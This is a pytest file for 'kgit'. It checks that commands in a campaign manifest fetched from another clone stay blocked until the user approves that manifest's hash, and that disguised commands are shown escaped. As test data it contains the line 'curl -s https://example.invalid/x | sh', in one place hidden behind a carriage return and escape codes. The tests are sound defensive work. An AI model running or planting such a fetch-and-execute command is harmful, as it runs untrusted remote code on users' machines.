"""Foreign commands need trust (issue 13): a campaign whose record came from another clone runs
none of its manifest's commands until the user approves that exact manifest here (`kgit trust`,
recorded by hash in the repository's own config, which git never transfers)."""

from __future__ import annotations

import hashlib
import json
import sys
from pathlib import Path

import pytest

from tests.conftest import MANIFEST, commit, git, run_kgit

FETCH = ("+refs/kgit/*:refs/kgit/*", "+refs/notes/*:refs/notes/*", "+refs/heads/kgit/*:refs/heads/kgit/*")  # fmt: skip


def manifest_digest(repo: Path, campaign: str = "c1") -> str:
    blob = git(repo, "rev-parse", f"refs/kgit/{campaign}/campaign:manifest.yaml")
    data = _git_bytes(repo, "cat-file", "blob", blob)
    return hashlib.sha256(data).hexdigest()


def _git_bytes(repo: Path, *args: str) -> bytes:
    import subprocess

    return subprocess.run(["git", *args], cwd=repo, capture_output=True, check=True).stdout


def trusted_value(repo: Path, campaign: str = "c1") -> str | None:
    import subprocess

    found = subprocess.run(
        ["git", "config", "--local", "--get", f"kgit.{campaign}.trust"],
        cwd=repo,
        capture_output=True,
        text=True,
    )
    return found.stdout.strip() or None


@pytest.fixture
def origin(kernel_repo: Path, tmp_path: Path) -> Path:
    """Campaign c1, baselined, with round-2 open, in the repository a teammate (or an agent
    elsewhere) works in; its test command leaves a mark wherever it runs."""
    repo = kernel_repo
    marker = tmp_path / "foreign-command-ran"
    text = MANIFEST.format(python=sys.executable).replace(
        "test_command: ", f"test_command: touch {marker} && "
    )
    (repo / "manifest.yaml").write_text(text)
    assert run_kgit("init", "c1", "-m", "manifest.yaml").code == 0
    assert run_kgit("-q", "baseline").code == 0
    assert run_kgit("round", "start", "bigger tiles").code == 0
    marker.unlink()
    return repo


@pytest.fixture
def clone(origin: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Another clone where the user has a campaign of their own (so kgit's hooks are installed),
    then fetches c1's refs and notes from ORIGIN."""
    repo = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(origin), str(repo))
    git(repo, "checkout", "-q", "--detach")
    git(repo, "branch", "-q", "-D", "kgit/c1/round-2")
    monkeypatch.chdir(repo)
    (repo / "mine.yaml").write_text(MANIFEST.format(python=sys.executable))
    assert run_kgit("init", "mine", "-m", "mine.yaml").code == 0
    git(repo, "fetch", "-q", "origin", *FETCH)
    return repo


def marker(repo: Path) -> Path:
    return repo.parent / "foreign-command-ran"


def test_a_fetched_campaign_runs_nothing_until_trusted(clone: Path) -> None:
    repo = clone
    assert trusted_value(repo) is None and trusted_value(repo, "mine") is not None

    status = run_kgit("-c", "c1", "status")
    assert "not trusted" in status.out and "kgit trust --campaign c1" in status.out, status
    assert run_kgit("-c", "c1", "status", "--json").json()["trusted"] is False  # type: ignore[index]

    git(repo, "checkout", "-q", "kgit/c1/round-2")
    (repo / "kernel.txt").write_text("speed: 120\n")
    blocked = commit(repo, "bigger tiles")
    assert blocked.returncode == 1, blocked
    assert "kgit trust --campaign c1" in blocked.stderr
    assert not marker(repo).exists()  # the hook ran none of c1's commands

    assert commit(repo, "bigger tiles", "--no-verify").returncode == 0
    for args in (("round", "validate"), ("round", "accept"), ("finish",), ("hooks", "install")):
        refused = run_kgit("-c", "c1", *args)
        assert refused.code == 1, (args, refused)
        assert "not trusted" in refused.err and "kgit trust --campaign c1" in refused.err
    assert not marker(repo).exists()

    asked = run_kgit("trust", "--campaign", "c1")  # no terminal here, and no --yes
    assert asked.code == 2 and "--yes" in asked.err, asked
    assert trusted_value(repo) is None

    approved = run_kgit("trust", "--campaign", "c1", "--yes")
    assert approved.code == 0, approved
    assert f"touch {marker(repo)}" in approved.out  # the commands it approved, shown
    assert trusted_value(repo) == manifest_digest(repo)
    assert run_kgit("-q", "-c", "c1", "round", "validate").code == 0
    assert marker(repo).exists()
    assert "not trusted" not in run_kgit("-c", "c1", "status").out


def test_a_changed_manifest_needs_trust_again(origin: Path, clone: Path) -> None:
    from kgit.gitdoor import open_repo

    assert run_kgit("trust", "-c", "c1", "--yes").code == 0
    first = trusted_value(clone)
    # A new revision of the manifest in the origin's record (a hand edit, or a kgit that
    # one day lets the manifest change): only the test command differs.
    theirs = open_repo(origin)
    record = theirs.rev_parse("refs/kgit/c1/campaign")
    assert record is not None
    found = theirs.read_objects([f"{record}:manifest.yaml"])[0]
    assert found is not None
    stored = json.loads(found[1])
    stored["test_command"] = "curl -s https://example.invalid/x | sh"
    text = (json.dumps(stored, indent=2) + "\n").encode()
    tree = theirs.tree_with(record, {"manifest.yaml": text})
    new = theirs.commit_tree(tree, [record], "kgit c1: manifest\n")
    theirs.update_ref("refs/kgit/c1/campaign", new, record)

    git(clone, "fetch", "-q", "origin", *FETCH)
    refused = run_kgit("-q", "-c", "c1", "round", "validate")
    assert refused.code == 1 and "changed since you trusted it" in refused.err, refused
    assert "test_command" in refused.err
    shown = run_kgit("trust", "-c", "c1", "--yes")
    assert "curl -s https://example.invalid/x | sh" in shown.out
    assert "changed: test_command" in shown.out, shown
    assert trusted_value(clone) not in (None, first)


def test_init_and_import_trust_what_the_user_defined(campaign: Path, tmp_path: Path) -> None:
    repo = campaign
    assert trusted_value(repo) == manifest_digest(repo)
    assert run_kgit("export", str(tmp_path / "seed")).code == 0
    assert run_kgit("import", str(tmp_path / "seed"), "--name", "again").code == 0
    assert trusted_value(repo, "again") == manifest_digest(repo, "again")


def test_the_trust_key_is_the_users_word(campaign: Path) -> None:
    """Deleting the key refuses; a key that names another manifest refuses; the exact digest,
    written by hand, is an approval (git config is the user's own, as with hooks)."""
    repo = campaign
    good = trusted_value(repo)
    git(repo, "config", "--local", "--unset", "kgit.c1.trust")
    assert run_kgit("round", "start", "x").code == 0  # starting a round runs nothing
    (repo / "kernel.txt").write_text("speed: 120\n")
    assert commit(repo, "x").returncode == 1
    git(repo, "config", "--local", "kgit.c1.trust", "0" * 64)
    assert "changed since you trusted it" in commit(repo, "x").stderr
    git(repo, "config", "--global", "kgit.c1.trust", good or "")  # only this repository's own
    assert commit(repo, "x").returncode == 1
    git(repo, "config", "--local", "kgit.c1.trust", good or "")
    assert commit(repo, "x").returncode == 0


def test_the_hook_refuses_without_importing_anything_heavy(clone: Path) -> None:
    """The commit hook's refusal stays on kgit's light path: no torch, triton or numpy."""
    import subprocess

    git(clone, "checkout", "-q", "kgit/c1/round-2")
    probe = (
        "import sys, runpy; sys.argv = ['kgit', 'hook', 'pre-commit']\n"
        "try:\n    runpy.run_module('kgit', run_name='__main__')\n"
        "except SystemExit as done:\n    print('EXIT', done.code, file=sys.stderr)\n"
        "heavy = sorted(m for m in sys.modules if m.split('.')[0] in ('torch', 'triton', 'numpy', 'yaml'))\n"
        "print('HEAVY', heavy, file=sys.stderr)\n"
    )
    done = subprocess.run([sys.executable, "-c", probe], cwd=clone, capture_output=True, text=True)
    assert "EXIT 1" in done.stderr and "HEAVY []" in done.stderr, done.stderr
    assert "kgit trust --campaign c1" in done.stderr


def test_a_command_hiding_behind_control_characters_is_shown_escaped() -> None:
    from kgit.engine.guards.trust import shown

    hidden = "pytest -q\rcurl -s https://example.invalid/x | sh\x1b[2K"
    assert "\r" not in shown(hidden) and "\x1b" not in shown(hidden)
    assert "curl -s https://example.invalid/x | sh" in shown(hidden)
    assert shown("python -m pytest -q test_gemm.py") == "python -m pytest -q test_gemm.py"


def test_a_revision_that_keeps_the_commands_keeps_the_approval(origin: Path, clone: Path) -> None:
    """A fetched manifest revision (kgit manifest edit in the origin) that changes only
    max_iterations runs in the clone without a new `kgit trust`; the config is not rewritten."""
    from tests.engine.remotes import kgit_in

    assert run_kgit("trust", "-c", "c1", "--yes").code == 0
    first = trusted_value(clone)
    revised = (origin / "manifest.yaml").read_text() + "max_iterations: 9\n"
    (origin / "revised.yaml").write_text(revised)
    done = kgit_in(origin, "-c", "c1", "manifest", "edit", "-m", "revised.yaml")
    assert done.code == 0, done
    git(clone, "fetch", "-q", "origin", *FETCH)
    assert manifest_digest(clone) != first
    status = run_kgit("-c", "c1", "status", "--json").json()
    assert status["trusted"] is True and status["max_iterations"] == 9  # type: ignore[index]
    assert trusted_value(clone) == first
